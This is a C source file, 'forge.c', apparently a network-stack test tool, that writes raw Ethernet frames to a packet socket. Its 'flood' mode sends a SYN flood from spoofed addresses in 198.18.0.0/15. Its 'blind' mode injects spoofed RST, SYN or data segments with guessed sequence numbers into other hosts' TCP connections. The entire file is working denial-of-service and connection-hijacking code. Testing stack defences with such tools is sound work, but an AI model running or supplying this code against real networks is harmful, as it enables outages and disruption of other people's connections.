// SPDX-License-Identifier: GPL-2.0
/*
 * Segments that nobody asked for, as fast as a packet socket takes them:
 *
 *	forge flood DEVICE MAC_FROM MAC_TO IP_TO PORT_TO SECONDS
 *		SYNs from addresses that nobody has (198.18.0.0/15), every number a new one;
 *		on a slow machine for longer, until it has sent LEAST
 *	forge blind DEVICE MAC_FROM MAC_TO IP_FROM PORT_FROM IP_TO PORT_TO rst|syn|data COUNT
 *		guesses into a connection of others: sequence and acknowledgment numbers at random
 *
 * Prints how many it sent.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH	32
#define DATA	100
#define LEAST	1024	/* SYNs of a flood */

#define FIN	0x01
#define SYN	0x02
#define RST	0x04
#define ACK	0x10

struct frame {
	uint8_t dst[6], src[6];
	uint16_t type;
	/* IPv4 */
	uint8_t vhl, tos;
	uint16_t total, id, frag;
	uint8_t ttl, proto;
	uint16_t ipsum;
	uint32_t saddr, daddr;
	/* TCP */
	uint16_t sport, dport;
	uint32_t seq, ack;
	uint8_t off, flags;
	uint16_t window, sum, urg;
	uint8_t opt[20];
	uint8_t data[DATA];
} __attribute__((packed));

static struct frame frames[BATCH];
static struct mmsghdr msgs[BATCH];
static struct iovec iovs[BATCH];
static uint64_t state = 88172645463325252ULL;

static uint32_t rnd(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return state >> 16;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static uint32_t add(const void *p, unsigned int len)
{
	const uint8_t *b = p;
	uint32_t sum = 0;
	unsigned int i;

	for (i = 0; i + 1 < len; i += 2)
		sum += b[i] << 8 | b[i + 1];
	return sum;
}

static void seal(struct frame *f, unsigned int tcplen)
{
	uint32_t sum;

	f->total = htons(20 + tcplen);
	f->ipsum = 0;
	f->ipsum = htons(fold(add(&f->vhl, 20)));
	f->sum = 0;
	sum = add(&f->saddr, 8) + IPPROTO_TCP + tcplen + add(&f->sport, tcplen);
	f->sum = htons(fold(sum));
}

static void fill(struct frame *f, char **mac, uint32_t daddr, uint16_t dport)
{
	memcpy(f->src, ether_aton(mac[0]), 6);
	memcpy(f->dst, ether_aton(mac[1]), 6);
	f->type = htons(ETHERTYPE_IP);
	f->vhl = 0x45;
	f->ttl = 64;
	f->proto = IPPROTO_TCP;
	f->daddr = daddr;
	f->dport = htons(dport);
	f->window = htons(64240);
}

static int wire(const char *device)
{
	struct sockaddr_ll to = {
		.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP),
		.sll_ifindex = if_nametoindex(device),
	};
	int fd = socket(AF_PACKET, SOCK_RAW, 0), one = 1, i;

	if (fd < 0 || bind(fd, (void *)&to, sizeof(to))) {
		perror(device);
		exit(1);
	}
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	for (i = 0; i < BATCH; i++) {
		iovs[i].iov_base = &frames[i];
		msgs[i].msg_hdr.msg_iov = &iovs[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}
	return fd;
}

static unsigned int out(int fd, unsigned int n)
{
	unsigned int done = 0;
	int r;

	while (done < n) {
		r = sendmmsg(fd, msgs + done, n - done, 0);
		if (r > 0)
			done += r;
		else if (errno != ENOBUFS && errno != EAGAIN)
			exit(1);
	}
	return done;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* MSS, SACK permitted, timestamps, window scale: what a Linux host would ask for. */
static const uint8_t syn_options[20] = {
	2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 1, 1, 0, 0, 0, 0, 1, 3, 3, 7,
};

static int flood(char **a)
{
	double end = now() + atof(a[5]);
	unsigned long sent = 0;
	int fd = wire(a[0]), i;

	for (i = 0; i < BATCH; i++) {
		fill(&frames[i], a + 1, inet_addr(a[3]), atoi(a[4]));
		frames[i].flags = SYN;
		frames[i].off = 40 / 4 << 4;
		memcpy(frames[i].opt, syn_options, sizeof(syn_options));
		iovs[i].iov_len = 14 + 20 + 40;
	}
	while (now() < end || sent < LEAST) {
		for (i = 0; i < BATCH; i++) {
			frames[i].saddr = htonl(0xc6120000 | (rnd() & 0x1ffff));
			frames[i].sport = htons(1024 + rnd() % 64000);
			frames[i].seq = rnd();
			seal(&frames[i], 40);
		}
		sent += out(fd, BATCH);
	}
	printf("%lu\n", sent);
	return 0;
}

static int blind(char **a)
{
	unsigned long count = strtoul(a[8], NULL, 0), sent = 0;
	unsigned int len = 20, n, i;
	int fd = wire(a[0]);
	uint8_t flags;

	flags = !strcmp(a[7], "rst") ? RST : !strcmp(a[7], "syn") ? SYN : ACK;
	if (flags == ACK)
		len += DATA;
	for (i = 0; i < BATCH; i++) {
		fill(&frames[i], a + 1, inet_addr(a[5]), atoi(a[6]));
		frames[i].saddr = inet_addr(a[3]);
		frames[i].sport = htons(atoi(a[4]));
		frames[i].flags = flags;
		frames[i].off = 20 / 4 << 4;
		memset(frames[i].opt, 'X', sizeof(frames[i].opt) + DATA);
		iovs[i].iov_len = 14 + 20 + len;
	}
	while (sent < count) {
		n = count - sent < BATCH ? count - sent : BATCH;
		for (i = 0; i < n; i++) {
			frames[i].seq = rnd();
			frames[i].ack = flags == ACK ? rnd() : 0;
			seal(&frames[i], len);
		}
		sent += out(fd, n);
	}
	printf("%lu\n", sent);
	return 0;
}

int main(int argc, char **argv)
{
	state ^= (uint64_t)time(NULL) << 20 ^ getpid();
	if (argc == 8 && !strcmp(argv[1], "flood"))
		return flood(argv + 2);
	if (argc == 11 && !strcmp(argv[1], "blind"))
		return blind(argv + 2);
	fprintf(stderr, "usage: at the head of forge.c\n");
	return 2;
}
